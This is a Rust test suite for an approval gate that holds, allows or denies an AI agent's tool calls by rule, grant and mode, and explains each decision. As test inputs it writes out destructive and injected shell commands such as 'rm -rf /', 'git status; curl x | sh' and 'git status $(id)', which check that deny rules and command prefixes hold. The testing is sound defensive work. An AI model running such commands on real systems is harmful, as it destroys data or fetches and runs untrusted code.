//! Policy v2 and v3 end to end (`architecture/contract.md` § Permission
//! model, § Settings, § Evaluate): ask rules, rule precedence, seeds that
//! respect rule order, bounded and argument-scoped grants, examples checked
//! at load, explained decisions; exact remembered decisions, seeds derived
//! and suppressed, typed constraints and command prefixes — through the
//! harness double and the worker's functions, on each engine.

use std::time::Duration;

use approval_gate_testkit::fixture::call;
use approval_gate_testkit::harness::{CallSpec, CallState};
use futures_util::future::join_all;
use serde_json::{json, Value};

use crate::common::*;

/// Stores `value` as the configuration and waits until the worker runs it.
async fn configure(scene: &Scene, value: Value) {
    scene
        .ok(
            "configuration::set",
            json!({"id": "approval-gate", "value": value}),
        )
        .await;
    let w = scene.worker.as_ref().unwrap();
    let want = approval_gate::ApprovalConfig::from_value(&value).expect("a valid configuration");
    assert!(
        eventually(WAIT, || w.config() == want).await,
        "the worker never loaded {value}"
    );
}

/// Stores `value`, whose rules do not compile, and waits until the worker
/// has refused it (`health.config.ok` false; the previous configuration
/// stays in force).
async fn configure_refused(scene: &Scene, value: Value) {
    scene
        .ok(
            "configuration::set",
            json!({"id": "approval-gate", "value": value}),
        )
        .await;
    for _ in 0..100 {
        if scene.ok("approval::health", json!({})).await["config"]["ok"] == false {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("the worker never refused {value}");
}

fn spec(sid: &str, cid: &str, fid: &str, args: Value) -> CallSpec {
    CallSpec::new(sid, format!("t_{sid}"), cid, fid, args)
}

fn completed(out: &CallState) -> bool {
    matches!(out, CallState::Completed { .. })
}

/// `(step, outcome)` of each trace step.
fn steps(evaluation: &Value) -> Vec<(String, String)> {
    evaluation["trace"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|s| {
            (
                s["step"].as_str().unwrap_or_default().to_owned(),
                s["outcome"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

async fn evaluate(scene: &Scene, sid: &str, fid: &str, args: Value) -> Value {
    scene
        .ok(
            "approval::evaluate",
            json!({"session_id": sid, "function_id": fid, "arguments": args}),
        )
        .await
}

async fn settings_of(scene: &Scene, sid: &str) -> Value {
    scene
        .ok("approval::get-settings", json!({"session_id": sid}))
        .await["settings"]
        .clone()
}

#[tokio::test]
async fn policy_ask_rules_hold_in_full_mode_over_grants_and_carry_their_deadlines() {
    on_each_engine("policy_ask_rules", |engine| async move {
        let scene = Scene::start(engine).await;
        configure(
            &scene,
            json!({"default_mode": "full", "rules": [
                "*",
                "?shell::*",
                {"function": "demo::*", "action": "ask", "rule_id": "ask-demo", "modes": ["manual"],
                 "timeout_ms": 60000, "escalate_after_ms": 5000}
            ]}),
        )
        .await;
        scene
            .ok(
                "approval::approve-always",
                json!({"session_id": "s_a", "function_id": "*", "pattern": true}),
            )
            .await;
        scene
            .ok(
                "approval::add-always-allow",
                json!({"session_id": "s_a", "function_id": "*"}),
            )
            .await;
        scene
            .ok(
                "approval::set-mode",
                json!({"session_id": "s_a", "mode": "full"}),
            )
            .await;
        // A human floor: full mode, `*` grants and an earlier `*` allow rule
        // do not let the call through.
        let out = scene
            .harness
            .call(spec("s_a", "c1", "shell::run", json!({"cmd": "ls"})))
            .await;
        assert!(out.is_held(), "{out:?}");
        assert_eq!(out.held_by(), Some("approval::gate"));
        assert_eq!(scene.harness.target_runs("shell::run"), 0);
        let held = scene.inbox().await;
        assert_eq!(held.len(), 1);
        assert_eq!(held[0]["function_id"], "shell::run");
        let ev = evaluate(&scene, "s_a", "shell::run", json!({})).await;
        assert_eq!(ev["verdict"], "needs_approval", "{ev}");
        assert_eq!(ev["rule_id"], "?shell::*", "{ev}");
        assert_eq!(
            ev["reason"], "held: ask rule ?shell::*; a human decides",
            "{ev}"
        );
        assert_eq!(
            steps(&ev),
            vec![
                ("human_only".into(), "pass".into()),
                // shell::* is judged for protected paths (§29).
                ("protected_path".into(), "pass".into()),
                ("ask".into(), "hold".into())
            ]
        );
        // `modes` narrows an ask rule: demo::* asks in manual mode only.
        let out = scene
            .harness
            .call(spec("s_a", "c2", "demo::echo", json!({})))
            .await;
        assert!(completed(&out), "{out:?}");
        scene
            .ok(
                "approval::set-mode",
                json!({"session_id": "s_m", "mode": "manual"}),
            )
            .await;
        scene
            .ok(
                "approval::approve-always",
                json!({"session_id": "s_m", "function_id": "demo::*", "pattern": true}),
            )
            .await;
        let out = scene
            .harness
            .call(spec("s_m", "c3", "demo::echo", json!({})))
            .await;
        assert!(out.is_held(), "{out:?}");
        let ev = evaluate(&scene, "s_m", "demo::echo", json!({})).await;
        assert_eq!(ev["rule_id"], "ask-demo", "{ev}");
        // The guard stays first.
        let ev = evaluate(&scene, "s_a", "approval::resolve", json!({})).await;
        assert_eq!(ev["rule_id"], "human_only_function", "{ev}");
        // A human's answer still releases an ask hold.
        let out = scene
            .ok(
                "approval::resolve",
                json!({"session_id": "s_a", "function_call_id": "c1", "decision": "allow"}),
            )
            .await;
        assert_eq!(out["resolved"], true);
        assert!(
            scene
                .harness
                .wait_until(WAIT, |h| h.target_runs("shell::run") == 1)
                .await
        );
    })
    .await;
}

#[tokio::test]
async fn policy_deny_ask_allow_lets_a_deny_rule_beat_full_mode_and_grants() {
    on_each_engine("policy_deny_ask_allow", |engine| async move {
        let scene = Scene::start(engine).await;
        let rules = json!(["demo::*", "!demo::other"]);
        scene
            .ok(
                "approval::set-mode",
                json!({"session_id": "s_d", "mode": "full"}),
            )
            .await;
        scene
            .ok(
                "approval::approve-always",
                json!({"session_id": "s_d", "function_id": "demo::*", "pattern": true}),
            )
            .await;
        // first_match (the default): full mode comes before the rules.
        configure(&scene, json!({"rules": rules})).await;
        let out = scene
            .harness
            .call(spec("s_d", "c1", "demo::other", json!({})))
            .await;
        assert!(completed(&out), "{out:?}");
        configure(
            &scene,
            json!({"rules": rules, "rule_precedence": "deny_ask_allow"}),
        )
        .await;
        let out = scene
            .harness
            .call(spec("s_d", "c2", "demo::other", json!({})))
            .await;
        let reason = out.deny_reason().unwrap_or_else(|| panic!("{out:?}"));
        assert!(reason.contains("matched rule !demo::other"), "{reason}");
        let out = scene
            .harness
            .call(spec("s_d", "c3", "demo::echo", json!({})))
            .await;
        assert!(completed(&out), "{out:?}");
        assert_eq!(scene.harness.target_runs("demo::other"), 1);
        let ev = evaluate(&scene, "s_d", "demo::other", json!({})).await;
        assert_eq!(
            steps(&ev),
            vec![
                ("human_only".into(), "pass".into()),
                ("deny_rule".into(), "deny".into())
            ]
        );
        assert_eq!(
            ev["trace"][1]["detail"],
            "rule 1 !demo::other (deny) matched"
        );
        // With nothing else deciding, the allow rules follow the grants.
        let ev = evaluate(&scene, "s_none", "demo::echo", json!({})).await;
        assert_eq!(ev["verdict"], "allow", "{ev}");
        assert_eq!(ev["rule_id"], "demo::*", "{ev}");
        assert_eq!(steps(&ev).last(), Some(&("rule".into(), "allow".into())));
    })
    .await;
}

/// The example: `["!shell::rm", {shell::* allow, modes: [auto]}]`
/// used to seed a `shell::*` entry that allowed `shell::rm` in auto mode.
#[tokio::test]
async fn policy_a_seed_never_allows_what_an_earlier_deny_rule_denies() {
    on_each_engine("policy_seeding_order", |engine| async move {
        let scene = Scene::start(engine).await;
        configure(
            &scene,
            json!({"default_mode": "auto", "rules": [
                "!approval::*", "!demo::other", {"function": "demo::*", "action": "allow", "modes": ["auto"]}
            ]}),
        )
        .await;
        let defaults = scene.ok("approval::get-settings", json!({"session_id": "s_s"})).await;
        assert_eq!(defaults["source"], "defaults");
        assert_eq!(defaults["settings"]["always_allow"][0]["function_id"], "demo::*");
        assert_eq!(defaults["settings"]["always_allow"][0]["granted_by"], "seed");
        for sid in ["s_s", "s_stored"] {
            if sid == "s_stored" {
                // Materialised: the record is stored; the seed is still
                // shown, derived from the rules, never stored.
                scene.ok("approval::set-mode", json!({"session_id": sid, "mode": "auto"})).await;
                assert_eq!(settings_of(&scene, sid).await["always_allow"][0]["granted_by"], "seed");
            }
            let out = scene.harness.call(spec(sid, "c1", "demo::other", json!({}))).await;
            let reason = out.deny_reason().unwrap_or_else(|| panic!("{sid}: {out:?}"));
            assert!(reason.contains("matched rule !demo::other"), "{reason}");
            let out = scene.harness.call(spec(sid, "c2", "demo::echo", json!({}))).await;
            assert!(completed(&out), "{sid}: {out:?}");
            let ev = evaluate(&scene, sid, "demo::other", json!({})).await;
            let seed = ev["trace"].as_array().unwrap().iter().find(|s| s["step"] == "always_allow").cloned();
            assert_eq!(
                seed,
                Some(json!({"step": "always_allow", "outcome": "pass",
                    "detail": "seed entry demo::* passed over: a seed entry never beats a deny rule"})),
                "{ev}"
            );
        }
        assert_eq!(scene.harness.target_runs("demo::other"), 0);
        // A human's own entry is a remembered decision and still allows.
        scene.ok("approval::add-always-allow", json!({"session_id": "s_s", "function_id": "demo::other"})).await;
        let out = scene.harness.call(spec("s_s", "c3", "demo::other", json!({}))).await;
        assert!(completed(&out), "{out:?}");
    })
    .await;
}

#[tokio::test]
async fn policy_bounded_grants_are_used_up_expire_and_are_scoped_by_arguments() {
    on_each_engine("policy_bounded_grants", |engine| async move {
        let scene = Scene::start(engine).await;
        configure(&scene, json!({"rules": ["!approval::*"]})).await;

        // uses: each allowed call spends one, written before it runs.
        let out = scene
            .ok("approval::approve-always", json!({"session_id": "s_u", "function_id": "demo::echo", "uses": 2}))
            .await;
        assert_eq!(out["settings"]["approved_always"][0]["uses_left"], 2, "{out}");
        let out = scene.harness.call(spec("s_u", "u0", "demo::echo", json!({}))).await;
        assert!(completed(&out), "{out:?}");
        assert_eq!(settings_of(&scene, "s_u").await["approved_always"][0]["uses_left"], 1);
        // The last use is a mutation of the record: the used-up entry leaves with it.
        let out = scene.harness.call(spec("s_u", "u1", "demo::echo", json!({}))).await;
        assert!(completed(&out), "{out:?}");
        assert_eq!(settings_of(&scene, "s_u").await["approved_always"], json!([]));
        let out = scene.harness.call(spec("s_u", "u2", "demo::echo", json!({}))).await;
        assert!(out.is_held(), "{out:?}");
        assert_eq!(scene.harness.target_runs("demo::echo"), 2);

        // args: the grant covers only the calls its constraints describe.
        scene
            .ok(
                "approval::approve-always",
                json!({"session_id": "s_g", "function_id": "shell::run", "args": {"cmd": {"prefix": "git "}}}),
            )
            .await;
        let out = scene.harness.call(spec("s_g", "g1", "shell::run", json!({"cmd": "git status"}))).await;
        assert!(completed(&out), "{out:?}");
        let out = scene.harness.call(spec("s_g", "g2", "shell::run", json!({"cmd": "rm -rf /"}))).await;
        assert!(out.is_held(), "{out:?}");
        let ev = evaluate(&scene, "s_g", "shell::run", json!({"cmd": "rm -rf /"})).await;
        let detail = ev["trace"][4]["detail"].as_str().unwrap_or_default().to_owned();
        assert_eq!(detail, "entry shell::run (args on cmd) passed over: its args do not hold", "{ev}");

        // ttl_ms: the grant applies until expires_at, then not at all.
        scene.ok("approval::set-mode", json!({"session_id": "s_t", "mode": "auto"})).await;
        let out = scene
            .ok("approval::add-always-allow", json!({"session_id": "s_t", "function_id": "coder::write", "ttl_ms": 1000}))
            .await;
        let entry = &out["settings"]["always_allow"][0];
        assert_eq!(
            entry["expires_at"].as_u64().unwrap() - entry["granted_at"].as_u64().unwrap(),
            1000,
            "{out}"
        );
        let expires_at = entry["expires_at"].as_u64().unwrap();
        let out = scene.harness.call(spec("s_t", "t1", "coder::write", json!({}))).await;
        assert!(completed(&out), "{out:?}");
        // The instant it expires: not a moment later.
        let now = now_ms();
        tokio::time::sleep(Duration::from_millis(expires_at.saturating_sub(now) + 1)).await;
        let out = scene.harness.call(spec("s_t", "t2", "coder::write", json!({}))).await;
        assert!(out.is_held(), "an expired grant is ignored at once: {out:?}");
        scene.ok("approval::set-mode", json!({"session_id": "s_t", "mode": "auto"})).await;
        assert_eq!(settings_of(&scene, "s_t").await["always_allow"], json!([]));

        // Bounds are validated; the same bounded grant twice is one entry.
        for bad in [
            json!({"ttl_ms": 0}),
            json!({"uses": 0}),
            json!({"args": {"cmd": {"matches": "("}}}),
            json!({"args": {"cmd": {"starts": "x"}}}),
            json!({"uses": -1}),
        ] {
            let mut request = json!({"session_id": "s_v", "function_id": "demo::echo"});
            request.as_object_mut().unwrap().extend(bad.as_object().unwrap().clone());
            let err = scene.call("approval::approve-always", request).await.expect_err("refused");
            assert_eq!(code_of(&err), "approval/invalid_payload", "{bad}: {err:?}");
        }
        for _ in 0..2 {
            scene
                .ok("approval::approve-always", json!({"session_id": "s_v", "function_id": "demo::echo", "uses": 3,
                    "args": {"n": {"equals": 1}}}))
                .await;
        }
        assert_eq!(settings_of(&scene, "s_v").await["approved_always"].as_array().unwrap().len(), 1);
    })
    .await;
}

/// A use that cannot be written does not apply: the grant is passed over
/// and the ladder goes on below it (here, to a deny rule).
#[tokio::test]
async fn policy_a_use_that_cannot_be_written_fails_closed() {
    on_test_engine("policy_use_fails_closed", |engine| async move {
        let scene = Scene::start(engine).await;
        configure(&scene, json!({"rules": ["!approval::*", "!demo::echo"]})).await;
        scene
            .ok(
                "approval::approve-always",
                json!({"session_id": "s_f", "function_id": "demo::echo", "uses": 3}),
            )
            .await;
        let faults = scene.engine.test_engine().unwrap().faults();
        faults.fail("state::set", "KV_DOWN", "kv down", Some(1));
        let out = scene
            .harness
            .call(spec("s_f", "f1", "demo::echo", json!({})))
            .await;
        let reason = out.deny_reason().unwrap_or_else(|| panic!("{out:?}"));
        assert!(reason.contains("matched rule !demo::echo"), "{reason}");
        assert_eq!(scene.harness.target_runs("demo::echo"), 0);
        assert_eq!(
            settings_of(&scene, "s_f").await["approved_always"][0]["uses_left"],
            3
        );
        // Writable again: the grant applies, one use at a time.
        let out = scene
            .harness
            .call(spec("s_f", "f2", "demo::echo", json!({})))
            .await;
        assert!(completed(&out), "{out:?}");
        assert_eq!(
            settings_of(&scene, "s_f").await["approved_always"][0]["uses_left"],
            2
        );
    })
    .await;
}

/// Trials of the race: each grants `USES` uses, then fires `CALLS` gate calls
/// at once; never more than `USES` may continue.
const RACE_TRIALS: usize = 1_000;
const USES: u64 = 2;
const CALLS: usize = 5;
/// Trials run side by side (each on its own session).
const RACE_WIDTH: usize = 20;

fn hook_input(session_id: &str, call_id: &str) -> Value {
    json!({
        "point": "pre_trigger", "session_id": session_id, "turn_id": format!("t_{session_id}"),
        "call": {"id": call_id, "function_id": "demo::echo", "arguments": {}},
    })
}

#[tokio::test]
async fn policy_concurrent_uses_never_exceed_the_grant() {
    on_each_engine_counting_drops("policy_uses_race", |engine| async move {
        let scene = Scene::start(engine).await;
        configure(&scene, json!({"rules": ["!approval::*", "!demo::*"]})).await;
        let gate = scene.harness.client();
        let lost = LostReplies::new(&scene.engine);
        let trial = |t: usize| {
            let (scene, lost) = (&scene, &lost);
            async move {
                let sid = format!("s_race{t}");
                scene
                    .ok("approval::approve-always", json!({"session_id": sid, "function_id": "demo::echo", "uses": USES}))
                    .await;
                let answers = join_all((0..CALLS).map(|c| call(gate, "approval::gate", hook_input(&sid, &format!("c{c}"))))).await;
                let mut continued = 0;
                // A gate answer a real engine dropped: the trial's count is a
                // lower bound then, still checked against the grant.
                let mut complete = true;
                for answer in answers {
                    let answer = match answer {
                        Ok(answer) => answer,
                        Err(e) if lost.unanswered(&e) => {
                            complete = false;
                            continue;
                        }
                        Err(e) => panic!("{sid}: gate failed: {e}"),
                    };
                    match answer["decision"].as_str() {
                        Some("continue") => continued += 1,
                        Some("deny") => {}
                        other => panic!("{sid}: unexpected answer {other:?}: {answer}"),
                    }
                }
                let left = settings_of(scene, &sid).await["approved_always"].clone();
                (continued, left, complete)
            }
        };
        let mut over = Vec::new();
        let (mut exact, mut unknown) = (0, 0);
        for start in (0..RACE_TRIALS).step_by(RACE_WIDTH) {
            let results = join_all((start..start + RACE_WIDTH).map(trial)).await;
            for (t, (continued, left, complete)) in (start..).zip(results) {
                if continued > USES {
                    over.push((t, continued, left.clone()));
                }
                // Every use spent: the entry left the record with its last.
                if continued == USES && left == json!([]) {
                    exact += 1;
                } else if !complete {
                    unknown += 1;
                }
            }
        }
        assert!(
            over.is_empty(),
            "{} of {RACE_TRIALS} trials allowed more than {USES} calls, the first: {:?}",
            over.len(),
            &over[..over.len().min(3)]
        );
        // Nothing failed, so every trial spent exactly its uses.
        assert_eq!(exact + unknown, RACE_TRIALS, "trials that did not spend exactly {USES} uses");
        lost.check(&scene.engine, "policy_uses_race").await;
        eprintln!("policy_uses_race: {RACE_TRIALS} trials of {CALLS} concurrent calls on a uses: {USES} grant; none over");
    })
    .await;
}

#[tokio::test]
async fn policy_failed_examples_and_oversized_regexes_are_rule_errors() {
    on_each_engine("policy_rule_errors", |engine| async move {
        let scene = Scene::start(engine).await;
        configure_refused(
            &scene,
            json!({"rules": [
                "!approval::*",
                "demo::*",
                {"function": "shell::run", "action": "deny", "rule_id": "no-rm",
                 "args": {"cmd": {"prefix": "rm "}},
                 "examples": {"match": [{"function_id": "shell::run", "arguments": {"cmd": "rm -rf /"}}],
                              "no_match": [{"function_id": "shell::run", "arguments": {"cmd": "rmdir x"}}]}},
                {"function": "shell::run", "action": "deny", "rule_id": "typo",
                 "examples": {"match": [{"function_id": "shell::exec"}]}},
                {"function": "coder::*", "action": "deny", "args": {"text": {"matches": "(?:\\w+\\s+){60}--force"}}}
            ]}),
        )
        .await;
        let ev = evaluate(&scene, "s_e", "demo::echo", json!({})).await;
        let errors: Vec<String> = serde_json::from_value(ev["rule_errors"].clone()).unwrap_or_default();
        assert_eq!(errors.len(), 2, "{ev}");
        assert_eq!(errors[0], "rule 3: example match[0] (shell::exec) does not match the rule");
        assert!(errors[1].starts_with("rule 4: args \"text\": the regex"), "{}", errors[1]);
        assert!(errors[1].contains("1 MiB limit") && errors[1].contains("(?-u:\\w)"), "{}", errors[1]);
        // The value is refused whole: the previous rules (no demo::*) still decide.
        assert_eq!(ev["verdict"], "needs_approval", "{ev}");
        let out = scene.harness.call(spec("s_e", "c1", "demo::echo", json!({}))).await;
        assert!(out.is_held(), "{out:?}");
        let health = scene.ok("approval::health", json!({})).await;
        assert_eq!(health["config"]["ok"], false, "{health}");
        assert_eq!(health["config"]["rule_errors"], json!(errors), "{health}");
        // Fixed, the examples pass and the rules apply again.
        configure(
            &scene,
            json!({"rules": ["!approval::*", "demo::*",
                {"function": "shell::run", "action": "deny", "rule_id": "no-rm", "args": {"cmd": {"prefix": "rm "}},
                 "examples": {"match": [{"function_id": "shell::run", "arguments": {"cmd": "rm -rf /"}}],
                              "no_match": [{"function_id": "shell::run", "arguments": {"cmd": "rmdir x"}}]}}]}),
        )
        .await;
        let health = scene.ok("approval::health", json!({})).await;
        assert_eq!(health["config"]["ok"], true, "{health}");
        let ev = evaluate(&scene, "s_e", "shell::run", json!({"cmd": "rm -rf /"})).await;
        assert_eq!(ev["rule_id"], "no-rm", "{ev}");
        assert!(ev.get("rule_errors").is_none(), "{ev}");
    })
    .await;
}

/// `approval::evaluate` answers the trace the gate's ladder produced, and
/// the gate then does what it says.
#[tokio::test]
async fn policy_evaluate_explains_every_step_and_the_gate_agrees() {
    on_each_engine("policy_evaluate_trace", |engine| async move {
        let scene = Scene::start(engine).await;
        configure(
            &scene,
            json!({"rules": [
                "!approval::*",
                {"function": "shell::run", "action": "deny", "rule_id": "no-force",
                 "args": {"cmd": {"matches": "--force"}}},
                {"function": "shell::*", "action": "allow", "modes": ["auto"]}
            ]}),
        )
        .await;
        scene.ok("approval::set-mode", json!({"session_id": "s_x", "mode": "manual"})).await;
        let ev = evaluate(&scene, "s_x", "shell::run", json!({"cmd": "ls"})).await;
        assert_eq!(
            ev["trace"],
            json!([
                {"step": "human_only", "outcome": "pass"},
                {"step": "protected_path", "outcome": "pass", "detail": "no protected path named"},
                {"step": "ask", "outcome": "pass", "detail": "no ask rules"},
                {"step": "mode", "outcome": "pass", "detail": "mode manual"},
                {"step": "approved_always", "outcome": "pass", "detail": "no entry matches"},
                {"step": "always_allow", "outcome": "pass", "detail": "mode manual: always_allow is honoured in auto mode only"},
                {"step": "rule", "outcome": "pass", "detail": "rule 1 no-force (deny) does not apply: cmd matches \"--force\" does not hold"},
                {"step": "rule", "outcome": "pass", "detail": "rule 2 shell::* (allow) does not apply in mode manual"},
                {"step": "default", "outcome": "hold", "detail": "no rule decided: a human decides"}
            ]),
            "{ev}"
        );
        assert_eq!(ev["verdict"], "needs_approval");
        let out = scene.harness.call(spec("s_x", "c1", "shell::run", json!({"cmd": "ls"}))).await;
        assert!(out.is_held(), "{out:?}");
        let ev = evaluate(&scene, "s_x", "shell::run", json!({"cmd": "git push --force"})).await;
        assert_eq!(ev["verdict"], "deny");
        assert_eq!(
            ev["trace"].as_array().unwrap().last(),
            Some(&json!({"step": "rule", "outcome": "deny", "detail": "rule 1 no-force (deny) matched on cmd matches \"--force\""}))
        );
        let out = scene.harness.call(spec("s_x", "c2", "shell::run", json!({"cmd": "git push --force"}))).await;
        assert_eq!(out.deny_reason(), ev["reason"].as_str(), "{out:?}");
        let ev = evaluate(&scene, "s_x", "state::set", json!({"scope": "approval_settings", "key": "s_x"})).await;
        assert_eq!(
            ev["trace"],
            json!([{"step": "human_only", "outcome": "deny", "detail": "state scope approval_settings"}])
        );
    })
    .await;
}

/// The stored record of a session, as the worker wrote it.
async fn stored(scene: &Scene, sid: &str) -> Value {
    scene
        .ok(
            "state::get",
            json!({"scope": "approval_settings", "key": sid}),
        )
        .await
}

#[tokio::test]
async fn rule_21_2_approve_always_remembers_exactly_the_function_unless_pattern_is_true() {
    on_each_engine("policy_exact_approve_always", |engine| async move {
        let scene = Scene::start(engine).await;
        configure(&scene, json!({"rules": ["!approval::*"]})).await;
        let out = scene
            .ok(
                "approval::approve-always",
                json!({"session_id": "s_x", "function_id": "demo::*"}),
            )
            .await;
        assert_eq!(
            out["settings"]["approved_always"],
            json!([{"function_id": "demo::*", "granted_at": out["settings"]["approved_always"][0]["granted_at"],
                    "granted_by": "user_click", "pattern": false}]),
            "{out}"
        );
        assert_eq!(stored(&scene, "s_x").await["approved_always"][0]["pattern"], false);
        // `demo::*` names no function a human saw: demo::echo still asks.
        let out = scene
            .harness
            .call(spec("s_x", "c1", "demo::echo", json!({})))
            .await;
        assert!(out.is_held(), "{out:?}");
        let ev = evaluate(&scene, "s_x", "demo::echo", json!({})).await;
        assert_eq!(ev["verdict"], "needs_approval", "{ev}");
        // Asked for, a pattern is a glob.
        let out = scene
            .ok(
                "approval::approve-always",
                json!({"session_id": "s_x", "function_id": "demo::*", "pattern": true}),
            )
            .await;
        let entry = &out["settings"]["approved_always"][1];
        assert_eq!(entry["function_id"], "demo::*", "{out}");
        assert!(entry.get("pattern").is_none(), "a glob is written as before: {out}");
        let out = scene
            .harness
            .call(spec("s_x", "c2", "demo::echo", json!({})))
            .await;
        assert!(completed(&out), "{out:?}");
        // An entry stored before the field existed keeps its glob meaning.
        scene
            .ok(
                "state::set",
                json!({"scope": "approval_settings", "key": "s_old", "value": {
                    "session_id": "s_old", "mode": "manual", "always_allow": [], "mode_set_at": 0,
                    "approved_always": [{"function_id": "demo::*", "granted_at": 1, "granted_by": "user_click"}]}}),
            )
            .await;
        let out = scene
            .harness
            .call(spec("s_old", "c3", "demo::echo", json!({})))
            .await;
        assert!(completed(&out), "{out:?}");
    })
    .await;
}

#[tokio::test]
async fn rule_21_3_a_removed_seed_stays_suppressed_and_seeds_are_never_stored() {
    on_each_engine("policy_seeds_derived", |engine| async move {
        let scene = Scene::start(engine).await;
        let seeded = json!({"default_mode": "auto", "rules": [
            "!approval::*", {"function": "demo::*", "action": "allow", "modes": ["auto"]}
        ]});
        configure(&scene, seeded.clone()).await;
        // The first mutation stores the record without the seed.
        let out = scene
            .ok("approval::set-mode", json!({"session_id": "s_s", "mode": "auto"}))
            .await;
        assert_eq!(out["settings"]["always_allow"][0]["granted_by"], "seed", "{out}");
        assert_eq!(stored(&scene, "s_s").await["always_allow"], json!([]));
        // Removing the seed suppresses it, for good.
        let out = scene
            .ok(
                "approval::remove-always-allow",
                json!({"session_id": "s_s", "function_id": "demo::*"}),
            )
            .await;
        assert_eq!(out["settings"]["always_allow"], json!([]), "{out}");
        assert_eq!(out["settings"]["suppressed_seeds"], json!(["demo::*"]), "{out}");
        let record = stored(&scene, "s_s").await;
        assert_eq!(record["suppressed_seeds"], json!(["demo::*"]), "{record}");
        assert_eq!(record["always_allow"], json!([]), "{record}");
        let ev = evaluate(&scene, "s_s", "demo::echo", json!({})).await;
        let step = ev["trace"].as_array().unwrap().iter().find(|s| s["step"] == "always_allow").cloned();
        assert_eq!(
            step,
            Some(json!({"step": "always_allow", "outcome": "pass",
                "detail": "seed entry demo::* passed over: removed from this session"})),
            "{ev}"
        );
        // A rule removed takes its seed with it; put back, it stays out.
        configure(&scene, json!({"default_mode": "auto", "rules": ["!approval::*"]})).await;
        assert_eq!(settings_of(&scene, "s_s").await["always_allow"], json!([]));
        let defaults = settings_of(&scene, "s_fresh").await;
        assert_eq!(defaults["always_allow"], json!([]));
        configure(&scene, seeded).await;
        assert_eq!(settings_of(&scene, "s_s").await["always_allow"], json!([]));
        assert_eq!(settings_of(&scene, "s_fresh").await["always_allow"][0]["function_id"], "demo::*");
        // A record stored with seed entries before they were derived: they
        // are ignored, and the next write drops them.
        scene
            .ok(
                "state::set",
                json!({"scope": "approval_settings", "key": "s_old", "value": {
                    "session_id": "s_old", "mode": "auto", "approved_always": [], "mode_set_at": 0,
                    "always_allow": [{"function_id": "shell::*", "granted_at": 1, "granted_by": "seed"}]}}),
            )
            .await;
        let out = scene
            .harness
            .call(spec("s_old", "c1", "shell::run", json!({})))
            .await;
        assert!(out.is_held(), "a seed no rule makes allows nothing: {out:?}");
        assert_eq!(settings_of(&scene, "s_old").await["always_allow"][0]["function_id"], "demo::*");
        scene
            .ok("approval::set-mode", json!({"session_id": "s_old", "mode": "auto"}))
            .await;
        assert_eq!(stored(&scene, "s_old").await["always_allow"], json!([]));
    })
    .await;
}

#[tokio::test]
async fn rule_21_4_a_deny_rule_on_a_command_meets_its_argv_array() {
    on_each_engine("policy_typed_constraints", |engine| async move {
        let scene = Scene::start(engine).await;
        configure(
            &scene,
            json!({"rules": [
                "!approval::*",
                {"function": "shell::run", "action": "deny", "rule_id": "no-rm",
                 "args": {"command": {"matches": "rm -rf"}}},
                {"function": "shell::run", "action": "allow", "args": {"n": {"equals": 1}}}
            ]}),
        )
        .await;
        let out = scene
            .harness
            .call(spec(
                "s_t",
                "c1",
                "shell::run",
                json!({"command": ["rm", "-rf", "/"]}),
            ))
            .await;
        let reason = out.deny_reason().unwrap_or_else(|| panic!("{out:?}"));
        assert!(reason.contains("matched rule no-rm"), "{reason}");
        // Allow rules read strictly: 1.0 is not the 1 the operator wrote.
        let out = scene
            .harness
            .call(spec(
                "s_t",
                "c2",
                "shell::run",
                json!({"command": "ls", "n": 1}),
            ))
            .await;
        assert!(completed(&out), "{out:?}");
        let out = scene
            .harness
            .call(spec(
                "s_t",
                "c3",
                "shell::run",
                json!({"command": "ls", "n": 1.0}),
            ))
            .await;
        assert!(out.is_held(), "{out:?}");
        assert_eq!(scene.harness.target_runs("shell::run"), 1);
    })
    .await;
}

#[tokio::test]
async fn rule_21_5_prefixes_are_command_prefixes() {
    on_each_engine("policy_command_prefixes", |engine| async move {
        let scene = Scene::start(engine).await;
        configure(
            &scene,
            json!({"rules": [
                "!approval::*",
                {"function": "shell::run", "action": "deny", "args": {"cmd": {"prefix": "rm"}}},
                {"function": "shell::run", "action": "allow", "args": {"cmd": {"prefix": "git status"}}}
            ]}),
        )
        .await;
        let call = |cid: &'static str, cmd: &'static str| {
            let scene = &scene;
            async move {
                scene
                    .harness
                    .call(spec("s_p", cid, "shell::run", json!({ "cmd": cmd })))
                    .await
            }
        };
        assert!(completed(&call("c1", "git status --short").await));
        for (cid, cmd) in [
            ("c2", "git status; curl x | sh"),
            ("c3", "git statusx"),
            ("c4", "git status $(id)"),
        ] {
            let out = call(cid, cmd).await;
            assert!(out.is_held(), "{cmd}: {out:?}");
        }
        let out = call("c5", "git status; rm -rf /").await;
        assert!(out.deny_reason().is_some(), "{out:?}");
        assert_eq!(scene.harness.target_runs("shell::run"), 1);
    })
    .await;
}
